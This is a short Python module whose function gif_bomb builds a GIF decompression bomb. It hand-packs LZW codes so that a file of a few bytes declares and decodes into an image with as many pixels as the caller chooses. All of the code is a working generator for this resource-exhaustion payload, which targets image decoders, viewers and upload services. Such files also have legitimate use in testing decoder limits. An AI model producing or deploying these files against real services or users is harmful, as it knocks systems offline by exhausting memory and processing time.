"""A GIF of few bytes whose one picture has as many pixels as one likes: side in, bytes out."""

import struct

_CLEAR, _END, _FIRST = 4, 5, 6


def gif_bomb(side):
    """All of one colour: each LZW code stands for one pixel more than the one before."""
    head = b"GIF89a" + struct.pack("<HHBBB", side, side, 0x80, 0, 0) + b"\x40\x80\xc0\xff\xff\xff"
    picture = b"\x2c" + struct.pack("<HHHHB", 0, 0, side, side, 0) + b"\x02"
    data = _packed(_codes(side * side))
    blocks = [data[at : at + 255] for at in range(0, len(data), 255)]
    return head + picture + b"".join(bytes([len(b)]) + b for b in blocks) + b"\0;"


def _codes(left):
    """LZW codes with their sizes in bits, for so many pixels of colour 0."""
    while left > 0:
        yield _CLEAR, 3
        yield 0, 3
        left -= 1
        for code in range(_FIRST, 4096):
            if left <= 0:
                break
            yield code, code.bit_length()
            left -= code - _FIRST + 2
    yield _END, 12


def _packed(codes):
    """Lowest bits first."""
    held, num_held, packed = 0, 0, bytearray()
    for code, num_bits in codes:
        held |= code << num_held
        num_held += num_bits
        while num_held >= 8:
            packed.append(held & 0xFF)
            held, num_held = held >> 8, num_held - 8
    packed.append(held & 0xFF)
    return bytes(packed)
